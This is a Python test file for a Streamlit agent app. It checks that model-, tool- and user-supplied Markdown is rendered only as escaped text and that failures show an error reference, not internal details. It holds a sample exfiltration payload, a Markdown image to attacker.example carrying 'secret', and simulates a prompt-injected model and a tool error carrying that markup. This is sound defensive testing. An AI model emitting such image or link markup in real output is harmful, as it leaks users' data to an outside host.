"""Model-, tool- and web-written text reaches the page only as literal text, and failures show no exception text
(issue 34, findings 3 and 11), through Streamlit's AppTest on the real page script and real services.

The policy is scripted (it says what a prompt-injected model would say); the tools are a real MCP server whose tool
fails with Markdown image and link markup in its error; the store is a real SQLite session log. Every piece of text
the page hands to Streamlit's Markdown renderer (markdown, captions, alerts, button labels) is checked: rendered as
CommonMark it holds no image, no link and no HTML, and the attacker's URL appears only escaped.
"""

from __future__ import annotations

import asyncio
import logging
import re
import sys
from collections.abc import Callable, Sequence
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest

from agent.config import AgentConfig, McpServerConfig, RunOptions, StageTokenCaps
from agent.protocols import ChatMessage, PromptContext
from agent.tools.mcp_client import discover
from app.container import Services
from app.service import ResearchService
from app.settings import Settings, UIConfig
from store.config import StoreConfig
from store.registry import Registry
from store.session_log import SessionLog
from tests.agent.scripts import calls_then_answer
from tests.fakes import ScriptedPolicy

MAIN = str(Path(__file__).resolve().parents[2] / "app" / "ui" / "main.py")
SERVERS = Path(__file__).resolve().parents[1] / "tools" / "mcp_servers.py"
TIMEOUT = 120
IMAGE = "![leak](https://attacker.example/pixel.png?q=secret)"
OPTS = RunOptions(max_tool_calls=3, token_caps=StageTokenCaps(plan=400, research=300, review=200, answer=200),
                  wall_clock_s=120, context_tokens=65536, inject_bank=False, question_first=False)
# What a failure's exception says about the deployment: none of it may reach the page.
INTERNALS = "connection to policy.internal.example:8000 refused; cache /srv/rubricem/secret-cache/x.bin"


def _script(calls: Sequence[str]):  # noqa: ANN202
    """A model that writes the tool calls `calls` (whole `<call_tool>` texts), then reviews and answers."""
    return calls_then_answer(calls, "<answer>Haymo was a Franciscan friar.</answer>")


@pytest.fixture
def serve(tmp_path: Path, put_services: Callable[[Services, str | None], Services]) -> object:
    """Put services built on `policy` and `tools` behind the page (the open loopback UI: the local admin)."""

    def make(policy: object, tools: dict[str, object]) -> Services:
        settings = Settings(agent=AgentConfig(defaults=OPTS), store=StoreConfig(data_dir=tmp_path / "data"),
                            ui=UIConfig())
        settings.store.data_dir.mkdir(parents=True, exist_ok=True)
        log = SessionLog(settings.store.sqlite_path)
        research = ResearchService(policy, tools, log, settings.agent)  # type: ignore[arg-type]
        # No document index or bank: the page only shows the corpus size ("?") and never searches them here.
        svc = Services(settings, log, None, tools, policy, research, None, Registry(log))  # type: ignore[arg-type]
        return put_services(svc, settings.ui.host)

    return make


def _markdown_texts(at: AppTest) -> list[tuple[str, bool]]:
    """(text, drawn with unsafe_allow_html) of everything on the page that Streamlit renders as Markdown."""
    out: list[tuple[str, bool]] = []
    for group in (at.markdown, at.caption, at.warning, at.info, at.error, at.success):
        out += [(str(e.value), bool(getattr(e, "allow_html", False))) for e in group]
    out += [(str(b.label), False) for b in at.button]
    return out


def _live_markup(texts: list[tuple[str, bool]]) -> list[str]:
    """The texts that would draw an image, a link or HTML, or carry the attacker's URL unescaped (a bare `https://`
    or `www.` is a link in GitHub-flavoured Markdown, which Streamlit renders)."""
    render = MarkdownIt("commonmark")
    bad = []
    for text, allow_html in texts:
        if allow_html:  # the answer and references panels: the export's escaping renderer, links to #ref-... only
            if "attacker" in text:
                bad.append(text)
            continue
        html = render.render(text)
        if any(tag in html for tag in ("<img", "<a ", "<script")) or "attacker.example" in text or "://" in text:
            bad.append(text)
    return bad


def test_injected_markup_in_tool_names_errors_and_questions_renders_as_plain_text(serve: object) -> None:
    tools = asyncio.run(discover([McpServerConfig(name="docs", command=sys.executable, args=[str(SERVERS), "stdio"],
                                                  tools=["inject"], timeout_s=60)], set()))
    calls = [f'\n<call_tool name="{IMAGE}">Haymo</call_tool>', '\n<call_tool name="inject">Haymo</call_tool>']
    svc: Services = serve(ScriptedPolicy(_script(calls)), dict(tools))  # type: ignore[operator]
    question = f"Who was Haymo of Faversham? {IMAGE} [click](https://attacker.example/) <img src=x>"
    outcome = asyncio.run(svc.research.run(question, OPTS))
    named, injected = outcome.trajectory.tool_calls
    assert named.error is not None and "attacker" not in named.error  # the parser refused the name unquoted
    assert injected.error is not None and "attacker.example/pixel.png" in injected.error  # the server's own words

    at = AppTest.from_file(MAIN, default_timeout=TIMEOUT)
    at.query_params["session"] = outcome.session_id
    at.run()
    assert not at.exception, at.exception
    texts = _markdown_texts(at)
    assert _live_markup(texts) == []
    shown = " ".join(t for t, _ in texts)
    assert "attacker\\.example\\/pixel\\.png" in shown  # the tool's error is shown, literally
    assert any("Who was Haymo of Faversham" in t for t, _ in texts)  # the question, in the chat and the history
    assert any("with a listed name" in str(w.value) for w in at.warning)  # why the bad call was refused


class _RefusingPolicy(ScriptedPolicy):
    """A policy server that cannot be reached: its error names the host and a path."""

    async def render_prompt(self, messages: Sequence[ChatMessage]) -> PromptContext:  # noqa: D102
        raise ConnectionError(INTERNALS)


def test_failures_show_a_reference_and_never_the_exception_text(serve: object,
                                                               caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.ERROR, logger="app.ui")

    def broken(context: str, stop: Sequence[str]) -> str:
        raise OSError(INTERNALS)

    svc: Services = serve(ScriptedPolicy(broken), {})  # type: ignore[operator]
    at = AppTest.from_file(MAIN, default_timeout=TIMEOUT).run()
    at.chat_input[0].set_value("Who was Haymo of Faversham?").run(timeout=TIMEOUT)
    assert not at.exception, at.exception
    (session,) = svc.log.list_sessions()
    assert session.status == "failed" and "internal.example" in (svc.log.get(session.session_id).error or "")
    texts = _markdown_texts(at)
    assert not [t for t, _ in texts if "internal.example" in t or "/srv/" in t or "OSError" in t]
    assert any(f"error reference: session `{session.session_id}`" in str(e.value) for e in at.error)

    serve(_RefusingPolicy(broken), {})  # type: ignore[operator]
    at = AppTest.from_file(MAIN, default_timeout=TIMEOUT).run()
    at.chat_input[0].set_value("Who was Haymo of Faversham?").run(timeout=TIMEOUT)
    assert not at.exception, at.exception
    texts = _markdown_texts(at)
    assert not [t for t, _ in texts if "internal.example" in t or "/srv/" in t or "ConnectionError" in t]
    (error,) = [str(e.value) for e in at.error if str(e.value).startswith("The run could not start")]
    ref = re.search(r"error reference `([0-9a-f]{8})`", error)
    assert ref is not None
    logged = [r for r in caplog.records if ref.group(1) in r.getMessage()]
    assert logged and INTERNALS in logged[0].getMessage()  # the details went to the app's log, under the reference
